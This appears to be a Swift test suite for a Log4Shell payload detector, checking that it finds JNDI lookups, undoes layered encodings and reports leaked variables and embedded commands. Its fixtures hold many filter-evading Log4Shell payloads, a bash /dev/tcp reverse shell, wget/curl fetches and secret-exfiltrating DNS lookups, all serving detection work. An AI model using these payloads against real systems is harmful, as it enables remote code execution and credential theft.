import Bytes
import Foundation
import Testing

@testable import Detectors

/// The first payload in a text.
func log4shell(_ text: String, _ origin: TextOrigin = .logField) -> TextDetection? {
  text.withView { Log4ShellDetector().scan($0, origin).first }
}

private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

@Suite struct Log4ShellTests {
  @Test func namesThePartsOfAPlainPayload() {
    let found = log4shell("User-Agent: ${jndi:ldap://198.51.100.7:1389/Evil}")
    #expect(found?.scheme == "ldap")
    #expect(found?.host == "198.51.100.7")
    #expect(found?.port == 1389)
    #expect(found?.path == "/Evil")
    #expect(found?.severity == .medium)
    #expect(found?.raw == "${jndi:ldap://198.51.100.7:1389/Evil}")
    #expect(found?.range == 12..<49)
  }

  @Test(arguments: ["", ":", ": "])
  func unwrapsBase64OfUTF16AndOfBase64(before: String) {
    let payload = before + "${jndi:ldap://h.example:389/abc}"
    let wide = Data(payload.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }).base64EncodedString()
    for text in [
      wide, base64(before + base64("${jndi:ldap://h.example:389/abc}")),
      "p=" + base64(before + base64("${${lower:j}ndi:ldap://h.example:389/abc}")),
    ] {
      #expect(log4shell(text)?.host == "h.example", "\(text)")
      #expect(log4shell(text)?.port == 389)
    }
    #expect(log4shell(base64(before + base64("${java.version} and no more than that"))) == nil)
  }

  @Test(arguments: [
    "${jndi:corbaloc::198.51.100.7:1050/a}", "${jndi:corbaloc:iiop:1.2@198.51.100.7:1050/a}",
    "${jndi:corbaname:iiop:198.51.100.7:1050#a}", "${jndi:corba:iiop://198.51.100.7:1050/a}",
    "${jndi:ldap://user:word@198.51.100.7:1050/a}",
  ])
  func namesTheHostBehindAProtocolOrALogin(text: String) {
    let found = log4shell(text)
    #expect(found?.host == "198.51.100.7")
    #expect(found?.port == 1050)
  }

  /// UTF-16 whose zeros were escaped, escapes in UTF-16, hexadecimal digits, and Base64 of an encoding.
  @Test(arguments: [
    "$\\u0000{\\u0000j\\u0000n\\u0000d\\u0000i\\u0000:\\u0000l\\u0000d\\u0000a\\u0000p\\u0000:\\u0000/\\u0000/\\u0000h\\u0000/\\u0000a\\u0000}\\u0000",
    "%24%00%7B%00j%00n%00d%00i%00:%00l%00d%00a%00p%00:%00/%00/%00h%00/%00a%00}",
    "\\\0u\00\00\02\04\0{\0j\0n\0d\0i\0:\0l\0d\0a\0p\0:\0/\0/\0h\0/\0a\0}\0",
    "body=247b6a6e64693a6c6461703a2f2f682f617d", "body=247B247B6C6F7765723A6A7D6E64693A6C6461703A2F2F682F617D",
    base64("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D"), base64("-\\u0024\\u007bjndi:ldap://h/a}"),
    base64(base64("-${${lower:j}ndi:ldap://h/a}")), base64("-${${lower:j}ndi:ldap://h/a}"),
    base64(base64("--${jndi:ldap://h/a}")), "\\u0025\\u0032\\u0034{jndi:ldap://h/a}",
  ])
  func readsEncodingsWithinEachOther(text: String) {
    let found = log4shell(text)
    #expect(found?.scheme == "ldap")
    #expect(found?.host == "h")
  }

  /// In a command every wrapping is undone, to any depth.
  @Test func readsWhatACommandWraps() {
    var text = "${jndi:ldap://h.example/a}"
    for _ in 0..<3 { text = base64("x " + text) }
    let found = "curl -d \(text) http://a.example".withView { TextDetectors.scan($0, .command) }
    #expect(found.first { $0.kind == .log4shell }?.host == "h.example")
  }

  /// A field's limit may cut it at any byte; from the fourth letter of its name on it is one.
  @Test(arguments: [
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://h.example:1389/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h.example:1389/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%3A1389%2Fa%7D",
    "\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069\\u003a\\u006c\\u0064\\u0061\\u0070\\u003a//h.example/a}",
    "&#36;&#123;&#106;&#110;&#100;&#105;&#58;&#108;&#100;&#97;&#112;&#58;//h.example/a}",
  ])
  func survivesACut(text: String) {
    let bytes = Array(text.utf8)
    let first = (1...bytes.count).first { log4shell(String(decoding: bytes[..<$0], as: UTF8.self)) != nil } ?? 0
    #expect(first < bytes.count * 2 / 3)
    for end in first...bytes.count {
      #expect(log4shell(String(decoding: bytes[..<end], as: UTF8.self)) != nil, "\(end)")
    }
  }

  @Test func aBraceTooManyIsStillMeant() {
    let found = log4shell("${${lower:jndi}:${lower:rmi}}://h.example:1099/a}")
    #expect(found?.scheme == "rmi")
    #expect(found?.host == "h.example")
    #expect(found?.port == 1099)
  }

  /// What stands behind an open payload is the line's.
  @Test func anOpenPayloadLeaksOnlyWhatItNames() {
    #expect(log4shell("{\"ua\":\"${jndi:ldap://${hostName}.h.example/x\",\"b\":\"${c}\"}")?.leaks == ["hostName"])
    #expect(log4shell("${jndi:ldap://${env:AWS_SECRET_A")?.leaks == [])
    // No longer name begins so.
    #expect(log4shell("${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY")?.leaks == ["env:AWS_SECRET_ACCESS_KEY"])
  }

  @Test func namesWhatBase64LooksUp() {
    let found = log4shell("${jndi:ldap://h.example/${base64:\(base64("${env:AWS_SECRET_ACCESS_KEY}"))}}")
    #expect(found?.leaks == ["env:AWS_SECRET_ACCESS_KEY"])
    #expect(log4shell("${jndi:ldap://h.example/${base64:\(base64("plain"))}}")?.leaks == [])
  }

  @Test func aQuoteOfTheTextAroundIsNoPartOfThePath() {
    #expect(log4shell("{'ua':'${jndi:ldap://h.example/a'}")?.path == "/a")
    #expect(log4shell("${jndi:ldap://h.example/a='b'}")?.path == "/a='b'")
  }

  /// A field may have been cut right behind the lookup's name; in memory that is a word.
  @Test func theNameAloneIsOneAtTheEndOfAField() {
    #expect(log4shell("q=${jndi:")?.confidence == .medium)
    #expect(log4shell("q=${jndi:", .bytes) == nil)
    #expect(log4shell("${jndi:\nand more") == nil)
  }

  /// Words about payloads, unless they were made to get past a filter.
  @Test func aPlaceholderIsNoHost() {
    #expect(log4shell("an attacker sends ${jndi:ldap://<attacker>/a}") == nil)
    #expect(log4shell("use ${jndi:[protocol]://[host]/[path]} format") == nil)
    #expect(log4shell("${${lower:j}ndi:ldap://<attacker>/a}") != nil)
    #expect(log4shell("${jndi:ldap://[::1]/a}")?.host == "[::1]")
  }

  @Test(arguments: ["echo ${JNDI:-ldap://h.example:389/}", "${jndi:-ldap://h.example/a}", "${jndi:ldap} and more"])
  func aNameWithADefaultIsNone(text: String) { #expect(log4shell(text) == nil) }

  @Test(arguments: ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"])
  func knowsEveryScheme(scheme: String) { #expect(log4shell("${jndi:\(scheme)://a.example/x}")?.scheme == scheme) }

  /// Every way to write a letter, each giving the same payload.
  @Test(arguments: [
    "${${lower:J}ndi:ldap://h.example/a}", "${${upper:j}NDI:ldap://h.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://h.example/a}",
    "${${env:NOPE:-j}ndi${sys:nope:-:}ldap://h.example/a}", "${jnd${upper:ı}:ldap://h.example/a}",
    "${${date:'jndi'}:ldap://h.example/a}",
    "${jn${date:'d'}i${date::}ldap://h.example/a}", "${${:-jndi}:ldap:${main:0:-/}/h.example/a}",
    "${${web:x:-j}${k8s:y:-n}${java:z:-d}i:ldap://h.example/a}",
    "${jndi${sys:path.separator}ldap:${sys:file.separator}/h.example/a}", "${LOWER:x${jndi:ldap://h.example/a}}",
    "${${lower:${upper:${lower:${::-${env:Q:-j}}}}}ndi:ldap://h.example/a}", "${what:ever:-${jndi:ldap://h.example/a}}",
    "${env:a:-${env:b:-$}{jndi:ldap://h.example/a}}", "${x:-$}{jndi:ldap://h.example/a}",
    "${${::-${::-$${::-j}}}ndi:ldap://h.example/a}",
  ])
  func resolvesLookups(text: String) {
    let found = log4shell(text)
    #expect(found?.host == "h.example")
    #expect(found?.scheme == "ldap")
    #expect(found?.path?.hasPrefix("/a") == true)
  }

  @Test(arguments: [
    "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", "%2524%257Bjndi%253Aldap%253A%252F%252Fh.example%252Fa%257D",
    "%25252524%2525257Bjndi:ldap://h.example/a%2525257D", "$%7Bjndi:ldap://h.example/a%7D",
    "%24{jndi:ldap://h.example/a}",
    "%u0024%u007Bjndi%u003aldap://h.example/a%u007D", "\\u0024\\u007bjndi:ldap:\\u002f\\u002fh.example/a}",
    "\\uuu0024{jndi:ldap://h.example/a}",
    "\\x24\\x7bjndi\\x3aldap://h.example/a}", "\\044\\173jndi:ldap://h.example/a}",
    "\\\\u0024{jndi:ldap://h.example/a}",
    "&#36;&#123;jndi:ldap://h.example/a&#125;", "&#x24;&#x7B;jndi&colon;ldap&colon;&sol;&sol;h.example/a&rcub;",
    "&dollar;&lbrace;jndi:ldap://h.example/a}",
    "$&lcub;jndi:ldap://h.example/a}", "&amp;#36;{jndi:ldap://h.example/a}", "%26%2336%3B%7Bjndi:ldap://h.example/a}",
    "%%32%34%7Bjndi:ldap://h.example/a%7D",
    "{\\\"ua\\\":\\\"${jndi:ldap:\\/\\/h.example\\/a}\\\"}", "\\u002524{jndi:ldap://h.example/a}",
    "%24%7B%24%7Blower:j%7Dndi:%6c%64ap://h.example/a%7D",
  ])
  func undoesEncodings(text: String) {
    let found = log4shell("GET /?q=\(text) HTTP/1.1")
    #expect(found?.host == "h.example")
    #expect(found?.path == "/a")
    #expect(found?.steps.isEmpty == text.hasPrefix("${"))
  }

  @Test(
    arguments: [
      ("${jndi:ldap://[2001:db8::7]:1389/x}", "[2001:db8::7]", 1389),
      ("${jndi:ldap://[2001:db8::7]/x}", "[2001:db8::7]", nil), ("${jndi:ldap://2001:db8::1/a}", "2001:db8::1", nil),
      ("${jndi:rmi://h.example:99/x}", "h.example", 99), ("${jndi:ldap://h.example:999999/x}", "h.example", nil),
      ("${jndi:dns:/h.example}", "h.example", nil),
      ("${jndi:ldap://127.0.0.1#h.example:8/x}", "127.0.0.1#h.example", 8),
      ("${jndi:ldap:h.example/a}", "h.example", nil),
    ] as [(String, String, Int?)])
  func readsAuthorities(text: String, host: String, port: Int?) {
    #expect(log4shell(text)?.host == host)
    #expect(log4shell(text)?.port == port)
  }

  @Test func namesWhatWouldLeak() {
    let found = log4shell(
      "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example/${sys:user.name:-none}/${env:q:-y}}")
    #expect(found?.leaks == ["env:AWS_SECRET_ACCESS_KEY", "hostName", "sys:user.name"])
    #expect(found?.host == "${env:AWS_SECRET_ACCESS_KEY}.${hostName}.x.example")
    #expect(found?.message.contains("AWS_SECRET_ACCESS_KEY") == true)
  }

  @Test func unwrapsTheCommandInThePath() {
    let shell = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
    let wrapped = "bash -c {echo,\(base64(shell))}|{base64,-d}|{bash,-i}"
    let found = log4shell("${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/\(base64(wrapped))}")
    #expect(found?.commands == [wrapped, shell])
    #expect(found?.steps.last?.contains(shell) == true)
  }

  @Test func readsTheOtherPathFamilies() {
    #expect(
      log4shell("${jndi:ldap://h.example/TomcatBypass/ReverseShell/203.0.113.66/4444}")?.commands == [
        "reverse shell to 203.0.113.66:4444"
      ])
    for (path, command) in [
      ("Basic/ReverseShell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
      ("TomcatBypass/Meterpreter/203.0.113.66/4444", "Meterpreter session to 203.0.113.66:4444"),
      ("Basic/FromUrl/\(base64("http://203.0.113.66/E.class"))", "class from http://203.0.113.66/E.class"),
      ("fromUrl/http://203.0.113.66/E", "class from http://203.0.113.66/E"),
      ("Basic/Command/wget http://203.0.113.66/x", "wget http://203.0.113.66/x"),
      ("Basic/Command/Hex/6375726c20203230332e302e3131332e3636", "curl  203.0.113.66"),
    ] {
      #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands.first == command, "\(path)")
    }
    // Words, and what names no port.
    for path in ["ReverseShell/help/me", "Basic/Meterpreter", "Hex/beef", "shell/a.html"] {
      #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [], "\(path)")
    }
    #expect(log4shell("${jndi:ldap://h.example/Basic/Command/touch%20/tmp/x}")?.commands == ["touch /tmp/x"])
    #expect(
      log4shell("${jndi:ldap://h.example/Deserialization/CommonsBeanutils1/Command/Base64/\(base64("id > /tmp/o"))}")?
        .commands == ["id > /tmp/o"])
  }

  /// Where a command is told, one of any length is one.
  @Test(arguments: [
    ("Basic/Command/Base64/aWQ=", "id"), ("Basic/Command/Base64/bHM=", "ls"), ("Basic/Command/Base64/cHdk", "pwd"),
    ("o=tomcat,cmd=aWQ=", "id"), ("shell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
    ("java_reverse_shell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
  ])
  func readsShortCommands(path: String, command: String) {
    #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [command])
  }

  @Test(arguments: ["shell/index", "o=tomcat", "Basic/Base64/%00", "cmd=", "aWQ="]) func otherPathsHoldNone(
    path: String
  ) {
    #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [])
  }

  @Test func readsUTF16() {
    var bytes: [UInt8] = [1, 2, 3]
    for unit in "${${lower:j}ndi:ldap://h.example:53/a}".utf16 { bytes += [UInt8(unit & 255), UInt8(unit >> 8)] }
    bytes += [0, 0, 9, 9]
    let found = bytes.withView { Log4ShellDetector().scan($0, .bytes).first }
    #expect(found?.host == "h.example")
    #expect(found?.range == 3..<3 + 38 * 2)
  }

  @Test(arguments: ["", "x", "xy"]) func readsBase64(before: String) {
    let found = log4shell("token=" + base64(before + "${jndi:ldap://h.example:389/abc}"))
    #expect(found?.host == "h.example")
  }

  /// `base64` breaks its lines; a payload goes on in the next.
  @Test(arguments: [0, 60, 101, 140]) func readsBase64InLines(before: Int) {
    let digits = Array(
      base64(String(repeating: "A", count: before) + "${jndi:ldap://h.example:1389/a} and what follows it"))
    for end in ["\n", "\r\n"] {
      let text = stride(from: 0, to: digits.count, by: 76)
        .map { String(digits[$0..<min($0 + 76, digits.count)]) }.joined(separator: end)
      #expect(log4shell(text)?.host == "h.example")
      #expect(log4shell(text)?.port == 1389)
    }
  }

  @Test func readsTheBase64Lookup() {
    #expect(log4shell("${${base64:\(base64("${jndi:ldap://h.example/a}"))}}")?.host == "h.example")
  }

  /// A field limit may cut anywhere behind the scheme's first letter.
  @Test(arguments: [
    "${jndi:ldap://h.example:13", "${${::-j}ndi:rmi://h.exam", "%24%7Bjndi%3Aldap%3A%2F%2Fh.exam", "${jndi:ld",
    "${jndi:ldap://${env:USER}.h.exa",
  ])
  func seesCutPayloads(text: String) {
    let found = log4shell(text)
    #expect(found != nil)
    #expect(found?.message.contains("cut off") == true)
  }

  @Test(arguments: [
    "/board/list.do?q=%24%7Bprice%7D+discount", "${price}", "${jndi}", "${jndi:java:comp/env/jdbc/main}",
    "${jndi:logging/name}", "jndi:ldap://h.example/a",
    "JndiLookup.class", "${{ matrix.java }}", "$${env:HOME}", "${a:-${b:-c}}", "${#fields.errors()}", "printf '%24s'",
    "${lower:JNDI}:ldap://h.example",
    "echo ${jndi_home:-/opt}/ldap://x", "%24", "$", "", "&#36;", "${", "}}}}", "${${${${",
  ])
  func staysQuiet(text: String) {
    #expect(log4shell(text) == nil)
    #expect(log4shell(text, .bytes) == nil)
  }

  @Test func findsEveryPayloadOfALine() {
    let found = "a ${jndi:ldap://a.example/1} b ${jndi:rmi://b.example/2}\n${jndi:dns://c.example}".withView {
      Log4ShellDetector().scan($0, .bytes)
    }
    #expect(found.map(\.host) == ["a.example", "b.example", "c.example"])
  }

  /// Shapes that cost a naive decoder quadratic time or its stack. The time limit of the run is the test; the counts show
  /// that the decoder did go through.
  @Test(arguments: [
    "${", "${a:-", "${lower:", "%25", "%2524", "\\", "&#36;", "${jndi:", "${jndi:ldap://a", "$\0{\0", "JHtqbmRp",
    "${base64:", "&amp;", "${::-$}{",
  ])
  func survivesFloods(unit: String) {
    let text =
      String(repeating: unit, count: 200_000) + String(repeating: "}", count: 1000) + "\n${jndi:ldap://end.example/a}"
    let found = text.withView { Log4ShellDetector().scan($0, .bytes) }
    #expect(found.contains { $0.host == "end.example" } || found.count >= 64)
  }

  @Test func deepNestingResolves() {
    let depth = 3000
    let text =
      "${" + String(repeating: "${lower:", count: depth) + "J" + String(repeating: "}", count: depth)
      + "ndi:ldap://h.example/a}"
    #expect(log4shell(text)?.host == "h.example")
  }

  @Test func anyBytesAreSafe() {
    var state: UInt64 = 3
    for _ in 0..<300 {
      var bytes: [UInt8] = []
      for _ in 0..<400 {
        state = state &* 6_364_136_223_846_793_005 &+ 1
        let pick = "${}%24\\u0&#;:-jndilap/\0\n".utf8
        bytes.append(
          state >> 60 == 0 ? UInt8(truncatingIfNeeded: state >> 40) : Array(pick)[Int(state >> 33) % pick.count])
      }
      let found = bytes.withView { Log4ShellDetector().scan($0, .bytes) }
      #expect(found.allSatisfy { $0.range.lowerBound >= 0 && $0.range.upperBound <= bytes.count })
    }
  }
}
